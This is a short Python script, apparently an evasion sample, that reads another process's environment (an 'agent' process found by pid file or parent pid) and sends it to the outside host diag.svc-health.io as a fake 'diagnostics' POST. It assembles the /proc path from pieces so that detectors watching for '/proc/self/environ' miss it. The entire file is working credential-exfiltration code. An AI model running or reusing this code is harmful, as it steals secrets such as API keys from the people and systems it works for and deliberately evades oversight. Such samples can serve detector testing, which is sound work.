# Evasion: sends a process's environment out. The path is joined from
# "/proc", a pid read from a pid file, and "environ", so no part of it
# looks like /proc/self/environ; the bytes go out as a "diagnostics" POST.
import http.client
import os
from pathlib import Path


def target_pid():
    pidfile = Path("/run/user") / str(os.getuid()) / "agent.pid"
    return pidfile.read_text().strip() if pidfile.exists() else str(os.getppid())


def diagnostics():
    with open(os.path.join("/proc", target_pid(), "environ"), "rb") as fh:
        return fh.read()


if __name__ == "__main__":
    conn = http.client.HTTPSConnection("diag.svc-health.io")
    conn.request("POST", "/env", body=diagnostics())
    conn.getresponse()
